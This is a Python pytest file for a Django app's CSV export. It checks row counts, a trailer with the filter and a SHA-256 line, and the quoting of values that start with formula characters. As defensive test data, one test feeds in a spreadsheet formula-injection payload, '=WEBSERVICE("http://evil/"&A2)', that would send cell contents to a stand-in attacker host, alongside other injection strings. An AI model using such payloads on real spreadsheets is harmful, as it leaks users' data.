import csv
import hashlib
import io
from contextlib import closing

import pytest

from tests.ui.things import Things, make
from ui.screens.export import quoted, write_csv

VIEW = Things.as_view()


def read(response):
    with closing(response):
        return b"".join(response.streaming_content)


@pytest.mark.django_db
def test_the_export_holds_all_that_match_and_says_what_it_is(ask):
    make(*(f"thing{i:03}" for i in range(60)), "other")
    response = ask(VIEW, data={"export": "csv", "q": "thing"})
    data = read(response)
    rows = list(csv.reader(io.StringIO(data.decode())))
    assert rows[0] == ["Name", "App", "State"]
    assert rows[1] == ["thing000", "made", "fine"]
    trailer = [row[0] for row in rows if row and row[0].startswith("# ")]
    assert '# Filter: search "thing"' in data.decode()
    assert "# Rows: 60" in trailer
    assert response["Content-Disposition"].startswith('attachment; filename="things-')


@pytest.mark.django_db
def test_the_hash_covers_the_lines_above_the_trailer(ask):
    make("alpha")
    response = ask(VIEW, data={"export": "csv"})
    data = read(response)
    table = data[: data.index(b"# List")]
    assert hashlib.sha256(table).hexdigest() == response["X-Table-SHA256"]
    assert f"# SHA-256 of the lines above: {response['X-Table-SHA256']}".encode() in data


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_formulas_are_quoted(text):
    assert quoted(text) == f"'{text}"


def test_ordinary_text_is_not():
    assert quoted("alpha = beta") == "alpha = beta"


def test_a_note_cannot_add_a_line():
    with write_csv(["A"], [], [("Filter", "x\r\n=HYPERLINK()")]).file as file:
        assert b"# Filter: x =HYPERLINK()\r\n" in file.read()


def test_many_rows_are_written_in_blocks():
    export = write_csv(["A"], ([str(i)] for i in range(2500)), [])
    with export.file as file:
        lines = file.read().decode().splitlines()
    assert (export.count, lines[2500]) == (2500, "2499")


@pytest.mark.django_db
def test_a_search_from_a_link_is_no_formula_in_the_trailer(ask):
    make("alpha")
    rows = csv.reader(
        io.StringIO(read(ask(VIEW, data={"export": "csv", "q": '=1+1,=WEBSERVICE("http://evil/"&A2), -2+3'})).decode())
    )
    assert [cell for row in rows for cell in row if cell.strip(' "').startswith(("=", "+", "-", "@"))] == []
